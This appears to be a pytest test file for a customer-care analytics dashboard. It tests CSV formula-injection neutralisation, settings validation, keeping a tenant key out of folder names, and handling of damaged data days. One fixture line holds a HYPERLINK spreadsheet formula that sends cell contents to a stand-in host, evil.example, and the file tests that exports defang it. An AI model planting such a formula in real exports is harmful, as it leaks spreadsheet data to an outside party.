"""Issue 18 on what we hand out: CSV that never carries a formula to a spreadsheet (item 9), settings that fail as
one line (item 6: in the CLI, and in the Khoros frame as the gate's one generic page), a tenant label without
the company key (item 11), and pages that keep working around a damaged day and say which (item 5)."""

from __future__ import annotations

import io
import json
import logging
import time
from datetime import UTC, datetime

import polars as pl
import pytest

from dashboard.core import Dashboard
from dashboard.errors import SettingsError
from dashboard.report import format_report, sla_report
from dashboard.settings import load_settings
from dashboard.simulator.world import WorldConfig, generate_world
from dashboard.views import build_data
from dashboard.views.service_levels import build_drilldown, build_sla_breakdown

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Gold")'

# ---- item 9: formula injection ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_core():
    """A small simulated world whose customers' tier (CRM text) is a spreadsheet formula."""
    world = generate_world(WorldConfig(seed=3, days=6, conversations_per_day=20,
                                       end=datetime(2026, 11, 18, 15, 30, tzinfo=UTC)))
    tables = dict(world.tables)
    tables["author"] = tables["author"].with_columns(tier=pl.lit(HOSTILE))
    return Dashboard.from_tables(tables, now=world.now)


def captured_csv(frame: pl.DataFrame, monkeypatch) -> bytes:
    """What the app's "Download CSV" button would hand the browser for ``frame``."""
    from dashboard.access import Viewer
    from dashboard.ui import account, widgets

    buttons: dict[str, object] = {}
    # outside a run of the app: a reader who may download, and no audit record (tests/test_audit*.py cover it)
    monkeypatch.setattr(account, "current_viewer", Viewer.open_demo)
    monkeypatch.setattr(account, "recorder", lambda action, **what: lambda: None)

    class Column:
        def download_button(self, label, data, **kwargs):
            buttons[label] = data

    monkeypatch.setattr(widgets.st, "columns", lambda n: [Column() for _ in range(n)])
    widgets.render_download(frame, "rows", key="k")
    data = buttons["Download CSV"]
    return data() if callable(data) else data


def test_item9_the_drilldown_download_neutralises_a_formula_tier(hostile_core, monkeypatch):
    filters = hostile_core.default_filters(days=6)
    breakdown = build_sla_breakdown(hostile_core, filters, "first_response", "tier")
    drill = build_drilldown(breakdown, HOSTILE)
    assert drill.rows.height > 10 and set(drill.rows["tier"]) == {HOSTILE}  # the view keeps the value exact
    body = captured_csv(drill.rows, monkeypatch)
    read = pl.read_csv(io.BytesIO(body), infer_schema=False)
    assert set(read["tier"]) == {"'" + HOSTILE} and read.height == drill.rows.height
    assert not any(v.startswith(("=", "+", "-", "@")) for c in read.columns for v in read[c].drop_nulls())


def test_item9_report_csv_neutralises_and_json_stays_exact(hostile_core):
    frame = sla_report(hostile_core, by=["tier"], start=datetime(2026, 11, 9).date(),
                       end=datetime(2026, 11, 19).date(), tz="UTC")
    assert frame["tier"].to_list() == [HOSTILE]
    as_csv = pl.read_csv(io.StringIO(format_report(frame, "csv")), infer_schema=False)
    assert as_csv["tier"].to_list() == ["'" + HOSTILE]
    assert json.loads(format_report(frame, "json"))[0]["tier"] == HOSTILE


def test_item9_only_text_cells_are_neutralised_numbers_stay_numbers():
    from dashboard.csv_safety import csv_bytes, csv_text

    frame = pl.DataFrame({"name": ["-5", "+1", "@here", "\tx", "\rx", "=1+1", "ok", None],
                          "delta": [-5, 1, 2, 3, 4, 5, 6, 7], "tags": [["=a", "b"]] * 8,
                          "=cmd": ["x"] * 8})
    text = csv_text(frame)
    read = pl.read_csv(io.StringIO(text), infer_schema=False)
    assert read.columns == ["name", "delta", "tags", "'=cmd"]
    assert read["name"].to_list() == ["'-5", "'+1", "'@here", "'\tx", "'\rx", "'=1+1", "ok", None]
    assert read["delta"].to_list() == [str(v) for v in frame["delta"]]  # -5 is a number, not a formula
    assert read["tags"].to_list() == ["'=a;b"] * 8
    assert csv_bytes(frame) == text.encode()


# ---- item 6: settings --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "value", "says"), [
    ("CARE_DASHBOARD_IFRAME_MAX_AGE", "abc", "must be a whole number, got 'abc'"),
    ("CARE_DASHBOARD_IFRAME_MAX_AGE", "-1", "must be between 1 and 86,400, got -1"),
    ("KHOROS_RATE_ANALYTICS_PER_MIN", "0", "must be between 1 and 1,000,000, got 0"),
    ("CARE_DASHBOARD_SIMULATOR_DAYS", "100000", "must be between 1 and 730, got 100,000"),
    ("CARE_DASHBOARD_SIMULATOR_END", "soon", "must be an ISO-8601 instant"),
])
def test_item6_a_bad_setting_is_a_settings_error_naming_it(name, value, says):
    with pytest.raises(SettingsError) as err:
        load_settings(env={name: value})
    assert str(err.value).startswith(f"setting {name} ") and says in str(err.value)


def test_item6_a_bad_setting_inside_the_khoros_frame_is_the_generic_page(app_env, monkeypatch, caplog):
    from dashboard.embed import encode_payload
    from dashboard.ui.embed_gate import INVALID_LINK_MESSAGE
    from tests.conftest import run_app

    monkeypatch.setenv("CARE_DASHBOARD_IFRAME_MAX_AGE", "five minutes")
    token = encode_payload({"agent": {"id": "a"}, "author": {"id": "x", "network": "twitter"},
                            "conversationId": "c", "network": "twitter", "timestamp": int(time.time() * 1000)},
                           app_env["CARE_DASHBOARD_IFRAME_SECRET"])
    with caplog.at_level(logging.WARNING, logger="dashboard.embed"):
        at = run_app(query={"payload": token})
    assert not at.exception  # no exception box (with its "Ask Google") inside Khoros
    assert [e.value for e in at.error] == [INVALID_LINK_MESSAGE]
    logged = " ".join(r.getMessage() for r in caplog.records)
    assert "CARE_DASHBOARD_IFRAME_MAX_AGE" in logged and token not in logged


# ---- item 11: the company key --------------------------------------------------------------------------------------


def test_item11_the_tenant_label_store_folder_and_data_page_hold_no_key(tmp_path):
    key = "ck-secret-91b2c7e4"
    env = {"KHOROS_ANALYTICS_URL": "https://analytics-api.app.lithium.com/api/public", "KHOROS_COMPANY_KEY": key,
           "KHOROS_USERNAME": "u", "KHOROS_PASSWORD": "p", "CARE_DASHBOARD_DATA_DIR": str(tmp_path)}
    legacy = tmp_path / "store" / f"{key}_analytics-api.app.lithium.com"  # the folder's name before
    (legacy / "export=conversation").mkdir(parents=True)
    core = Dashboard.open(load_settings(env=env))
    assert key not in core.settings.tenant and key not in core.label and key not in str(core.store.root)
    assert not legacy.exists() and core.store.root.name == core.settings.tenant  # renamed, data kept
    view = build_data(core)
    assert key not in view.source and "analytics-api.app.lithium.com" in view.source
    named = Dashboard.open(load_settings(env={**env, "CARE_DASHBOARD_TENANT_NAME": "ACME Europe"}))
    assert named.store.root.name == "ACME_Europe" and not core.store.root.exists()
    assert [p.name for p in (tmp_path / "store").iterdir()] == ["ACME_Europe"]


# ---- item 5: pages around a damaged day ----------------------------------------------------------------------------


@pytest.mark.slow  # a demo world of its own, made and damaged
def test_item5_pages_keep_working_and_the_data_page_names_the_damaged_day(tmp_path, monkeypatch):
    from dashboard.ui import loaders
    from tests.conftest import DEMO_ENV, KHOROS_ENV_NAMES, run_app

    env = {**DEMO_ENV, "CARE_DASHBOARD_SIMULATOR_SEED": "12", "CARE_DASHBOARD_SIMULATOR_DAYS": "6",
           "CARE_DASHBOARD_SIMULATOR_CPD": "40", "CARE_DASHBOARD_DATA_DIR": str(tmp_path)}
    for name in KHOROS_ENV_NAMES:
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    settings = load_settings()
    made = Dashboard.open(settings)
    files = made.store.day_files("conversation")
    damaged = files[len(files) // 2]
    damaged.write_bytes(damaged.read_bytes()[:150])
    day = damaged.parent.name.removeprefix("day=")
    made.close()
    loaders._CORES.pop(settings, None)
    try:
        at = run_app()  # Overview
        assert not at.exception and at.metric, [e.value for e in at.exception]
        data = run_app("pages/data.py")
        assert not data.exception
        warning = " ".join(w.value for w in data.warning)
        assert "1 stored day(s) could not be read and are left out of every figure" in warning
        shown = next(d.value for d in data.dataframe if "set_aside" in d.value.columns)
        assert list(shown["export"]) == ["conversation"] and str(shown["day"].iloc[0])[:10] == day
    finally:
        core = loaders._CORES.pop(settings, None)
        if core is not None:
            core.close()


# ---- item 3, on a page: another writer is named, the page does not hang ---------------------------------------------


def test_item3_a_page_import_while_a_cli_sync_writes_says_who_writes(tmp_path):
    import threading

    from dashboard.errors import StoreBusy
    from tests._worlds import tenant_settings

    core = Dashboard.open(tenant_settings(tmp_path))
    inside, release = threading.Event(), threading.Event()

    def cli_sync():
        from dashboard.store import Store

        with Store(core.store.root).writer("sync conversation 2026-11-01..2026-11-20"):
            inside.set()
            release.wait(10)

    holder = threading.Thread(target=cli_sync)
    holder.start()
    inside.wait(10)
    f = tmp_path / "c.csv"
    f.write_text("conversation_id,author_id,network,status,created_time\nc1,a1,twitter,OPEN,2026-11-02T09:00:00Z\n")
    try:
        with pytest.raises(StoreBusy, match=r"being written by sync conversation 2026-11-01\.\.2026-11-20"):
            core.import_files("conversation", [f], wait_s=0.2)
    finally:
        release.set()
        holder.join(10)
    assert core.import_files("conversation", [f]).added == 1
